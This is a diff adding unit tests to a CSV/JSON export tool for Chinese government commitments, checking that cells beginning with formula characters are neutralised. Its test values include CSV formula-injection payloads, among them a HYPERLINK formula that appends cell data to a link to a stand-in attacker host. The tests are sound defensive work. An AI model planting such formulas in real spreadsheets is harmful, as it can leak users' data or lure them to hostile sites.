@@ -399,6 +399,35 @@ describe('the CSV', () => {
     expect(csvField('')).toBe('');
   });
 
+  test.each([
+    ['=', '=HYPERLINK("https://evil.example/","点这里")', `"'=HYPERLINK(""https://evil.example/"",""点这里"")"`],
+    ['+', '+1+1区财政局', `"'+1+1区财政局"`],
+    ['-', '-2+3', `"'-2+3"`],
+    ['@', '@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
+    ['a tab', '\t=1+1', `"'\t=1+1"`],
+    ['a carriage return', '\r=1+1', `"'\r=1+1"`],
+  ])('neutralizes a cell that starts with %s: a single quote before it, and quoted', (_start, value, field) => {
+    expect(csvField(value)).toBe(field);
+  });
+
+  test('leaves a cell alone when a formula character is not its first', () => {
+    expect(csvField('1+1=2')).toBe('1+1=2');
+    expect(csvField('区财政局@')).toBe('区财政局@');
+    expect(csvField('>=17800 人')).toBe('>=17800 人');
+  });
+
+  test('writes hostile wording inert in the CSV and verbatim in the JSON', () => {
+    const hostile = '=HYPERLINK("https://evil.example/?"&A1,"点击查看")';
+    const year = oneYear(
+      [notice(places.xiangshan)],
+      [commitment(places.xiangshan, 1, { title: '@SUM(1+1)', text: hostile, leadUnits: ['=1+1区财政局'], topic: { slug: 'employment', how: 'rule', matched: '就业' } })],
+    );
+    const row = csvRows(csvOf(year, options))[0];
+    expect(row).toMatchObject({ text: `'${hostile}`, title: "'@SUM(1+1)", leadUnits: "'=1+1区财政局" });
+    const json = datasetOf(year, options).notices[0]?.commitments[0];
+    expect(json).toMatchObject({ text: hostile, title: '@SUM(1+1)', leadUnits: ['=1+1区财政局'] });
+  });
+
   test('writes a target as its comparator, value and unit', () => {
     const t = (value: number, unit: string, comparator?: Target['comparator']): Target => (comparator ? { value, unit, text: '原文', comparator } : { value, unit, text: '原文' });
     expect(targetCell(t(17800, '人', '>='))).toBe('>=17800 人');
